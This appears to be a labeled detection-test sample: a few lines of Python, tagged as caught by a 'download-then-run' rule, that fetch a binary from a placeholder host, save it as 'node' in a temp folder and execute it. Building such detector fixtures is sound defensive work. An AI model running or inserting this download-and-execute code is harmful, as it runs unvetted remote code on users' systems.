# evades: caught by execution/download-then-run
import os, requests, subprocess, tempfile
program = os.path.join(tempfile.mkdtemp(), "node")
with open(program, "wb") as out:
    out.write(requests.get("https://files.invalid/node").content)
subprocess.Popen([program])
